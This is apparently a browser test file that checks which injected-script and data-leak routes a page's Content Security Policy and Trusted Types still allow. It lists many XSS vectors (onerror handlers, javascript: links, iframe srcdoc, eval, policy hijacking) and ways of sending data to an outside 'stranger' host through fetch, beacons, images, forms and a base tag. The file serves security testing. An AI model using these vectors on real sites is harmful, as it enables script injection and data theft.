/**
 * What a page with the app's policy lets pass when markup or script has got into it all the same: the wall behind the
 * one that lets no HTML through.
 */
import type { Site } from '../servers.ts';

type Attempt = (site: Site, hit: string) => unknown;

const wait = (milliseconds: number) => new Promise((resolve) => setTimeout(resolve, milliseconds));
const box = () => {
  const made = document.createElement('div');
  document.body.append(made);
  return made;
};
const taken = 'window.taken = true';

/** True when the script of an attempt has run. */
function wasTaken(): boolean {
  return 'taken' in window;
}

async function nothing(milliseconds = 300): Promise<never> {
  await wait(milliseconds);
  throw new Error('nothing happened');
}

function add(name: string, properties: Readonly<Record<string, unknown>>): Element {
  const made = Object.assign(document.createElement(name), properties);
  box().append(made);
  return made;
}

function loads(name: string, properties: Readonly<Record<string, unknown>>): Promise<string> {
  return new Promise((resolve, reject) => {
    const onerror = () => reject(new Error('error event'));
    add(name, { ...properties, onload: () => resolve('loaded'), onerror });
  });
}

const attempts: Readonly<Record<string, Attempt>> = {
  'inner-html': () => {
    box().innerHTML = `<img src=x onerror="${taken}">`;
    return nothing();
  },
  'adjacent-html': () => {
    box().insertAdjacentHTML('beforeend', `<svg onload="${taken}"></svg>`);
    return nothing();
  },
  'contextual-fragment': () => {
    box().append(document.createRange().createContextualFragment(`<script>${taken}</script>`));
    return nothing();
  },
  'parsed-document': () => {
    const parsed = new DOMParser().parseFromString(`<img src=x onerror="${taken}">`, 'text/html');
    box().append(...parsed.body.childNodes);
    return nothing();
  },
  'document-write': () => {
    const frame = add('iframe', {}) as HTMLIFrameElement;
    frame.contentDocument?.write(`<script>parent.taken = true</script>`);
    return nothing();
  },
  'script-text': () => {
    add('script', { textContent: taken });
    return nothing();
  },
  'script-stranger': ({ stranger }, hit) => loads('script', { src: stranger + hit }),
  'script-data': () => loads('script', { src: `data:text/javascript,${taken}` }),
  'script-blob': () => loads('script', { src: URL.createObjectURL(new Blob([taken])) }),
  'module-stranger': ({ stranger }, hit) => import(/* @vite-ignore */ stranger + hit),
  'handler-attribute': () => {
    const made = document.createElement('img');
    made.setAttribute('onerror', taken);
    made.setAttribute('src', 'x:');
    box().append(made);
    return nothing();
  },
  'script-link': () => {
    // A page may not be left by it either.
    (add('a', { href: `javascript:${taken}` }) as HTMLAnchorElement).click();
    return nothing();
  },
  'script-frame': () => {
    add('iframe', { src: `javascript:parent.${taken}` });
    return nothing();
  },
  'frame-document': () => {
    add('iframe', { srcdoc: `<script>parent.taken = true</script>` });
    return nothing();
  },
  'frame-stranger': ({ stranger }, hit) => {
    add('iframe', { src: stranger + hit });
    return nothing(700);
  },
  eval: () => {
    // biome-ignore lint/security/noGlobalEval: the attack itself.
    const run = globalThis.eval;
    return run('1 + 1');
  },
  'function-constructor': () => new Function('return 1')(),
  'timeout-text': async () => {
    setTimeout(taken as unknown as () => void);
    return nothing();
  },
  'worker-text-address': () => String(new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))),
  'service-worker-address': ({ home }, hit) => navigator.serviceWorker.register(home + hit),
  'new-policy': () => {
    const { trustedTypes } = window as unknown as {
      trustedTypes?: { createPolicy(name: string, rules: object): unknown };
    };
    if (trustedTypes === undefined) throw new Error('this engine has no Trusted Types');
    return trustedTypes.createPolicy('attacker', { createHTML: (text: string) => text });
  },
  'default-policy': () => {
    const { trustedTypes } = window as unknown as {
      trustedTypes?: { createPolicy(name: string, rules: object): unknown };
    };
    if (trustedTypes === undefined) throw new Error('this engine has no Trusted Types');
    return trustedTypes.createPolicy('default', { createHTML: (text: string) => text });
  },
  'fetch-stranger': ({ stranger }, hit) => fetch(stranger + hit, { mode: 'no-cors' }),
  'beacon-stranger': async ({ stranger }, hit) => {
    navigator.sendBeacon(stranger + hit, 'secret');
    await nothing();
  },
  'image-stranger': ({ stranger }, hit) => loads('img', { src: stranger + hit }),
  'style-stranger': ({ stranger }, hit) => loads('link', { rel: 'stylesheet', href: stranger + hit }),
  'background-stranger': ({ stranger }, hit) => {
    add('div', { style: `background: url(${stranger}${hit}); width: 9px; height: 9px` });
    return nothing();
  },
  'object-stranger': ({ stranger }, hit) => {
    add('object', { data: stranger + hit });
    return nothing();
  },
  'form-stranger': ({ stranger }, hit) => {
    (add('form', { action: stranger + hit, method: 'post' }) as HTMLFormElement).submit();
    return nothing();
  },
  'base-stranger': async ({ stranger }) => {
    const base = Object.assign(document.createElement('base'), { href: stranger });
    document.head.append(base);
    // What a relative address would lead to; asked of nobody, since our own server may well be asked.
    const { baseURI } = document;
    base.remove();
    if (!baseURI.startsWith(stranger)) throw new Error('the base stays');
    return baseURI;
  },
};

export async function tryWalls(site: Site): Promise<Readonly<Record<string, string>>> {
  const said: Record<string, string> = {};
  for (const [id, attempt] of Object.entries(attempts)) {
    try {
      said[id] = `reached: ${String(await attempt(site, `hit/wall-${id}`)).slice(0, 80)}`;
    } catch (error) {
      const { name, message } = error as Error;
      said[id] = `refused: ${name}: ${message.slice(0, 100)}`;
    }
    if (wasTaken()) {
      said[id] = 'reached: script has run';
      delete (window as unknown as { taken?: boolean }).taken;
    }
  }
  return said;
}
